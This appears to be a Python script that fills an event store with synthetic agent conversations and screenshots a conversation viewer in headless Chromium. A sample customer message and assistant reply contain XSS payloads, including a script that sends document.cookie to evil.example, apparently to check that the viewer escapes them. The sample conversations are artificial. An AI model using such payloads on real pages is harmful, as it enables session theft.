"""``make screenshots``: fill a store with sample conversations, and take the pictures of the docs.

Serves the viewer on a free port of this machine, and drives a headless Chromium through it. With
``--fill URL`` it only fills a store, for a look around by hand.
"""

from __future__ import annotations

import argparse
import base64
import json
import random
import re
import shutil
import socket
import struct
import sys
import tempfile
import threading
import time
import zlib
from contextlib import suppress
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from uuid import UUID

from agent_eventstore import Conversation, EventStore
from eventstore.events import (
    AssistantMessage,
    ConversationStart,
    Invocation,
    LlmError,
    LlmRequest,
    Meta,
    NewEvent,
    TextPart,
    TokenUsage,
    UserMessage,
)
from projections import Views

IMAGES = Path(__file__).parents[1] / "docs" / "images"
TOOLS = [
    {"type": "function", "function": {"name": name, "description": about, "parameters": {}}}
    for name, about in (
        ("query_metrics", "Query the metrics of a service."),
        ("search_logs", "Search the logs."),
        ("read_file", "Read a file of the repository."),
        ("rollback_deploy", "Roll a service back to a release."),
        ("run_tests", "Run the tests of a folder."),
    )
]
CHOICE = random.Random(7)  # noqa: S311 - repeatable pictures


def fill(store: EventStore) -> dict[str, str]:
    """Fill a store with conversations like those of products; return the ids of the main ones."""
    _past_calls(store)
    long = _migration(store)
    incident = _incident(store)
    return {"long": str(long), "incident": str(incident)}


def _past_calls(store: EventStore) -> None:
    """Record model calls of the last 30 days, as an import of a product's own log would."""
    now = datetime.now(UTC)
    models = (("gpt-4o", 9), ("claude-sonnet-4-5", 6), ("gpt-4o-mini", 8), ("gpt-4.1", 3))
    kinds = ("rate_limit", "network", "provider", "timeout")
    topics = (
        "Invoice",
        "Refund",
        "Delivery",
        "Password",
        "Contract",
        "Upgrade",
        "Export",
        "Limits",
    )
    for number in range(150):
        user = CHOICE.choice(("ada", "cleo", "jon", "mara", "desk"))
        topic = f"{CHOICE.choice(topics)} {CHOICE.randrange(1000, 9999)}"
        day = now - timedelta(days=CHOICE.triangular(0.02, 29, 2), minutes=number)
        key = f"past-{number}"
        events: list[NewEvent] = [_at(day, ConversationStart(title=f"{topic}: a question"))]
        cached = 0
        for turn in range(CHOICE.randrange(2, 9)):
            model = CHOICE.choices([m for m, _ in models], [w for _, w in models])[0]
            meta = {"turn": turn + 1}
            text = f"What is the state of {topic}? ({turn + 1})"
            events.append(_at(day, UserMessage(parts=(TextPart(text=text),)), meta))
            own = f"{key}-{turn}"
            invocation = Invocation(provider=_provider(model), model=model)
            events.append(_at(day, LlmRequest(llm_call_id=own, invocation=invocation), meta))
            took = CHOICE.lognormvariate(0.3, 0.6)
            day += timedelta(seconds=took)
            prompt = 900 + 2_300 * turn + CHOICE.randrange(9_000)
            if CHOICE.random() < 0.09:
                error = LlmError(llm_call_id=own, kind=CHOICE.choice(kinds), message="no answer")
                events.append(_at(day, error, meta))
                continue
            usage = TokenUsage(
                prompt_tokens=prompt,
                completion_tokens=CHOICE.randrange(60, 700),
                cached_prompt_tokens=min(cached, prompt) if CHOICE.random() < 0.8 else 0,
            )
            cached = int(prompt * 0.8)
            answer = AssistantMessage(
                llm_call_id=own,
                parts=(TextPart(text=f"{topic} is being looked at, and nothing is lost."),),
                usage=usage,
                invocation=invocation,
                final=True,
            )
            events.append(_at(day, answer, meta))
            day += timedelta(minutes=CHOICE.randrange(1, 40))
        store.append(key, events, user_id=user)


def _provider(model: str) -> str:
    return "anthropic" if model.startswith("claude") else "openai"


def _at(moment: datetime, data: Any, meta: dict[str, Any] | None = None) -> NewEvent:
    return NewEvent(data, meta=Meta(occurred_at=moment, **(meta or {})))


def _answer(
    turn: Any,
    text: str | None,
    calls: list[dict[str, Any]] | None = None,
    *,
    limit: int = 9_000,
    took: float = 0.03,
    reasoning: str | None = None,
    cached: float = 0.9,
) -> Any:
    request = turn.context(max_tokens=limit, model="gpt-4o", tools=TOOLS)
    with turn.llm_call(request) as call:
        time.sleep(took)
        prompt = request.tokens.tokens if hasattr(request.tokens, "tokens") else request.tokens
        call.message(
            text,
            reasoning=reasoning,
            tool_calls=calls or [],
            usage={
                "prompt_tokens": int(prompt),
                "completion_tokens": 20 + len(text or "") // 4 + 30 * len(calls or ()),
                "prompt_tokens_details": {"cached_tokens": int(prompt * cached) // 128 * 128},
            },
            finish_reason="tool_calls" if calls else "stop",
        )
    return call


def _wanted(name: str, own_id: str, **arguments: Any) -> dict[str, Any]:
    return {"name": name, "id": own_id, "arguments": json.dumps(arguments)}


def _use(turn: Any, call: Any, results: list[Any]) -> None:
    for requested, result in zip(call.tool_calls, results, strict=True):
        with turn.tool(requested) as tool:
            time.sleep(0.005)
            if isinstance(result, Exception):
                tool.fail(str(result))
            else:
                tool.result(result)


_FILES = (
    "billing/invoice.py",
    "billing/tax.py",
    "billing/api.py",
    "billing/currency.py",
    "tests/test_tax.py",
    "tests/test_invoice.py",
    "ledger/entries.py",
    "ledger/client.py",
)


def _source(name: str) -> str:
    lines = [f'"""{name}: amounts in minor units."""', "", "from decimal import Decimal", ""]
    for number in range(CHOICE.randrange(8, 26)):
        lines += [
            f"def entry_{number}(amount: int, rate: Decimal) -> int:",
            f'    """Return the entry INV-{CHOICE.randrange(1000, 9999)} with its tax."""',
            f"    return round(amount * (1 + rate)) + {number}",
            "",
        ]
    return "\n".join(lines)


def _migration(store: EventStore) -> Any:
    first = (
        "We migrate the billing service from the old invoice tables to the ledger API. The rule: "
        "amounts are integers of minor units, never floats. The staging database is at "
        "db-stg-7.internal, and the ticket is BILL-2207. Start with billing/invoice.py."
    )
    instructions = (
        "You are a careful software engineer. Make small changes, run the tests after each, and "
        "never change a public signature without asking."
    )
    with Conversation.start(
        store,
        title="Migrate billing to the ledger API",
        user_id="jon",
        base_instructions=instructions,
    ) as conversation:
        for number in range(34):
            name = _FILES[number % len(_FILES)]
            question = CHOICE.choice(
                (
                    f"Now {name}. The rule about minor units holds here too.",
                    f"Who calls {name}? Must it keep its old signature?",
                    f"Why did INV-{CHOICE.randrange(1000, 9999)} get VAT of 19 % and not 7 %?",
                    f"Check the logs of the staging run for {name}.",
                )
            )
            with conversation.turn(first if number == 0 else question) as turn:
                call = _answer(
                    turn,
                    f"I look at `{name}` first.",
                    [
                        _wanted("read_file", f"a{number}", path=name),
                        _wanted("search_logs", f"b{number}", query=name, last="2h"),
                    ],
                )
                logs = "\n".join(
                    f"10:{line:02}:11 staging {name} INV-{CHOICE.randrange(1000, 9999)} ok"
                    for line in range(CHOICE.randrange(4, 40))
                )
                _use(turn, call, [_source(name), logs])
                call = _answer(turn, None, [_wanted("run_tests", f"c{number}", path="tests")])
                _use(turn, call, [f"{20 + number} passed in 0.{number}s"])
                _answer(
                    turn,
                    f"Done with `{name}`: {8 + number} lines changed, {20 + number} tests pass. "
                    f"INV-{1700 + number} now has {CHOICE.randrange(1000, 9999)} minor units. "
                    "Rounding is half even now, as the ledger wants.",
                )
        return conversation.id


def _plot() -> str:
    """Return a small PNG of a latency curve as a data URL."""
    width, height = 420, 110
    rows = [bytearray(b"\xff" * width * 3) for _ in range(height)]
    for at in range(width):
        raised = 1 / (1 + 2.72 ** (-(at - 190) / 6)) - 1 / (1 + 2.72 ** (-(at - 320) / 8))
        middle = int(90 - 66 * raised + CHOICE.choice((-1, 0, 1)))
        for line in range(middle - 1, middle + 2):
            rows[line][at * 3 : at * 3 + 3] = b"\xb0\x24\x1c"
        for line in (20, 55, 90):
            if line not in range(middle - 1, middle + 2):
                rows[line][at * 3 : at * 3 + 3] = b"\xe4\xe8\xec"
    raw = b"".join(b"\0" + bytes(row) for row in rows)

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + crc

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(raw))
    return "data:image/png;base64," + base64.b64encode(png + chunk(b"IEND", b"")).decode()


HOSTILE = (
    "A customer sent this. Is it safe to show in our admin page?\n\n"
    "<script>fetch('//evil.example/?'+document.cookie)</script> <img src=x onerror=alert(1)> "
    '<a href="javascript:alert(1)">invoice</a> <style>body{display:none}</style>'
)


LATENCY = "histogram_quantile(0.99, sum by (le, release) (rate(checkout[5m])))"
WAITING = 'pg_pool_waiting{service="checkout"}'


def _incident(store: EventStore) -> Any:
    with Conversation.start(
        store,
        title="Checkout latency after release 2026.11.3",
        user_id="mara",
        key="incident-4121",
        base_instructions="You are the on-call assistant of the payments team. Say what you know, "
        "and what you only suspect.",
    ) as conversation:
        opening: list[Any] = [
            {
                "type": "text",
                "text": "p99 of **checkout** went from 0.4 s to 3.9 s at 09:12 UTC. Dashboard "
                "attached. Find out why, and tell me what to do. Order W-4121 is a customer that "
                "complained.",
            },
            {"type": "image_url", "image_url": {"url": _plot()}},
        ]
        with conversation.turn(opening) as turn:
            call = _answer(
                turn,
                "I look at three things at once: latency by release, the pool, and the logs of the "
                "order.",
                [
                    _wanted("query_metrics", "m1", query=LATENCY, range="08:30/10:00"),
                    _wanted("query_metrics", "m2", query=WAITING, range="08:30/10:00"),
                    _wanted("search_logs", "m3", query="W-4121"),
                ],
                reasoning="The step at 09:12 looks like a deploy, not traffic. I compare the "
                "latency with the release log, and look at the pool of connections.",
                took=0.4,
                cached=0,
            )
            pool = {
                "waiting": {"08:30": 0, "09:00": 1, "09:12": 48, "09:30": 51},
                "size": 10,
                "max": 10,
            }
            _use(
                turn,
                call,
                [
                    {"2026.11.2": 0.41, "2026.11.3": 3.92},
                    pool,
                    RuntimeError("timeout: the log server did not answer within 30 s"),
                ],
            )
            _failed_call(turn, "timeout: no answer within 30 s", TimeoutError)
            _answer(
                turn,
                "**Release 2026.11.3** is the cause: it merged the read and write pools, so 48 "
                "requests wait for one of ten connections.\n\n1. Roll back `checkout` now.\n"
                "2. Then give the pools back their own sizes:\n\n```python\n"
                'pools = {\n    "read": Pool(size=30),\n    "write": Pool(size=10),  # as before\n}'
                "\n```\n\n| release | p99 |\n|---|---|\n| 2026.11.2 | 0.41 s |\n"
                "| 2026.11.3 | 3.92 s |",
                took=0.2,
            )
        with conversation.turn("Yes, roll back. But only checkout.") as turn:
            call = _answer(
                turn,
                None,
                [
                    _wanted("rollback_deploy", "r1", service="checkout", to="2026.11.2"),
                    _wanted("rollback_deploy", "r2", service="cart", to="2026.11.2"),
                ],
            )
            with turn.tool(call.tool_calls[0]) as tool:
                tool.result({"pods": "3/3", "release": "2026.11.2"})
            turn.deny(call.tool_calls[1], "the user allowed only checkout")
            _answer(
                turn,
                "Checkout is back at `2026.11.2`, on 3 of 3 pods. I had also asked to roll back "
                "_cart_, which you refused; nothing happened there.",
            )
        with conversation.turn("Write the post-mortem's first paragraph.") as turn:
            _failed_call(
                turn,
                "connection reset by peer after 131 bytes of a chunk",
                ConnectionError,
                "On 25 November at 09:12 UTC, release 2026.11.3 merged the read and write pools of "
                "checkout. Within four minutes 48 requests were waiting",
            )
        with conversation.turn("continue") as turn:
            _answer(turn, "...for one of ten connections. It took 52 minutes until the rollback.")
        for again in (
            "...for one of ten connections, and customers saw errors.",
            (
                "...for one of ten connections. p99 was 3.92 s for 52 minutes, until the rollback "
                "at 10:04 UTC. Nobody was charged twice."
            ),
        ):
            with conversation.regenerate() as turn:
                _answer(turn, again)
        with conversation.turn(HOSTILE) as turn:
            _answer(
                turn,
                "**No.** It contains a `<script>` that sends the session's cookie away:\n\n"
                "```html\n<script>fetch('//evil.example/?'+document.cookie)</script>\n```\n\n"
                "Escape it, e.g. `markupsafe.escape`, and set a "
                "[content security policy](https://www.w3.org/TR/CSP3/).\n\n<img src=x "
                "onerror=alert(2)> <iframe src=javascript:alert(3)></iframe> "
                "![pixel](https://tracker.example/p.gif)",
            )
        own = conversation.id
    with (
        Conversation.fork(
            store, own, user_id="mara", title="Checkout latency: what if we raise the pool?"
        ) as fork,
        fork.turn("What if we had only raised the pool to 40?") as turn,
    ):
        _answer(turn, "Then the database would have run out of connections at 09:20.")
    return own


def _failed_call(turn: Any, message: str, error: type[Exception], partial: str = "") -> None:
    request = turn.context(max_tokens=9_000, model="gpt-4o", tools=TOOLS)
    with suppress(error), turn.llm_call(request) as call:
        time.sleep(0.05)
        if partial:
            call.delta(partial)
        raise error(message)


def take(store: EventStore, ids: dict[str, str], folder: Path) -> None:
    """Take the pictures."""
    import uvicorn
    from playwright.sync_api import sync_playwright

    from agent_eventstore.server import create_app
    from agent_eventstore.server.shared import Identity

    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        sys.exit("no Chromium is installed: apt-get install chromium")
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    app = create_app(store, authenticate=lambda request: Identity(), hosts=["127.0.0.1"])
    server = uvicorn.Server(uvicorn.Config(app, port=port, log_level="error"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.02)
    requests = [
        each.version for each in store.read(UUID(ids["long"])) if each.type == "llm_request"
    ]
    long, request = f"/c/{ids['long']}", requests[-12]
    incident = f"/c/{ids['incident']}"
    pictures = (
        ("viewer-conversations", "/", "light", ""),
        ("viewer-conversation", incident, "light", _OPENED),
        ("viewer-errors", incident, "dark", "document.querySelector('#timeline').scrollTop = 9e5"),
        ("viewer-request", f"{long}/r/{request}", "light", _CHOSEN),
        ("viewer-other-budget", f"{long}/r/{request}?max_tokens=16000", "dark", ""),
        (
            "viewer-why",
            f"{long}/why?q={_missing(store, ids['long'], request)}&r={request}",
            "light",
            "",
        ),
        ("viewer-usage", "/usage", "dark", ""),
        ("viewer-tools", "/tools", "light", ""),
    )
    folder.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as running:
        browser = running.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        for name, path, theme, script in pictures:
            page = browser.new_page(
                viewport={"width": 1280, "height": 800}, color_scheme=theme, bypass_csp=True
            )
            page.goto(f"http://127.0.0.1:{port}{path}")
            page.wait_for_timeout(300)
            if script:
                page.evaluate(script)
                page.wait_for_timeout(400)
            page.screenshot(path=folder / f"{name}.png")
            page.close()
        browser.close()
    server.should_exit = True
    thread.join(5)


def _missing(store: EventStore, stream: str, request: int) -> str:
    """Return a number that the conversation has and a request has not."""
    views = Views(store)
    sent = json.dumps(views.context_of(UUID(stream), request).messages)
    for item in views.timeline(UUID(stream)):
        for found in re.findall(r"INV-\d{4}", item.text or ""):
            if item.version > 100 and found not in sent:
                return str(found)
    return "INV-1701"


_OPENED = """() => {
    document.querySelector("#timeline").scrollTop = 0;
    document.querySelectorAll(".call")[1].open = true;
}"""
_CHOSEN = """() => {
    const blocks = [...document.querySelectorAll(".block")];
    blocks.filter((each) => each.querySelector(".l-shortened")).at(-1)?.focus();
}"""


def main() -> None:
    """Fill a store, or take the pictures."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--fill", metavar="URL", help="only fill this store")
    parser.add_argument("--out", metavar="DIR", type=Path, default=IMAGES)
    arguments = parser.parse_args()
    if arguments.fill:
        with EventStore.open(arguments.fill) as store:
            sys.stdout.write(f"{json.dumps(fill(store))}\n")
        return
    with tempfile.TemporaryDirectory() as folder:
        with EventStore.open(f"sqlite:///{folder}/sample.db") as store:
            take(store, fill(store), arguments.out)


if __name__ == "__main__":
    main()
